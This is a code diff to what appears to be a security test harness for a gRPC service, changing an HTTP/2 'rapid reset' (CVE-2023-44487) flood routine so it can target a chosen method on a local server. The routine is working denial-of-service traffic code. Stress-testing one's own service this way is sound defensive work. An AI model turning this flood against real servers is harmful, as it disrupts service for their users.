@@ -42,14 +42,16 @@ __all__ = [
 # rapid reset
 
 
-async def grpc_rapid_reset(arena: Arena, streams: int = 2000, rounds: int = 5) -> Findings:
+async def grpc_rapid_reset(
+    arena: Arena, method: str = "NoSuchMethod", streams: int = 2000, rounds: int = 5
+) -> Findings:
     """HTTP/2 "rapid reset" (CVE-2023-44487): on one connection, open a stream
-    and reset it at once, ``streams`` times, in ``rounds`` bursts. The
-    unknown method path keeps ensync's handlers out of it: whatever happens
-    to other clients is the gRPC server's doing."""
+    and reset it at once, ``streams`` times, in ``rounds`` bursts. An unknown
+    method keeps ensync's handlers out of it (whatever happens to other
+    clients is the gRPC server's doing); a real one reaches them."""
     findings = Findings()
     port = arena.engine.grpc_port
-    block = grpc_request_headers("/ensync.EnSyncService/NoSuchMethod", f"127.0.0.1:{port}")
+    block = grpc_request_headers(f"/ensync.EnSyncService/{method}", f"127.0.0.1:{port}")
     burst = PREFACE + h2_frame(H2.SETTINGS, 0, 0, b"")
     burst += b"".join(
         h2_frame(H2.HEADERS, H2.END_HEADERS, stream, block)
@@ -65,7 +67,7 @@ async def grpc_rapid_reset(arena: Arena, streams: int = 2000, rounds: int = 5) -
             sock.abort()
         arena.sample()
         await asyncio.sleep(0.3)
-    findings.notes.append(f"{rounds} bursts of {streams} opened-and-reset streams")
+    findings.notes.append(f"{rounds} bursts of {streams} opened-and-reset {method} streams")
     return findings
 
 
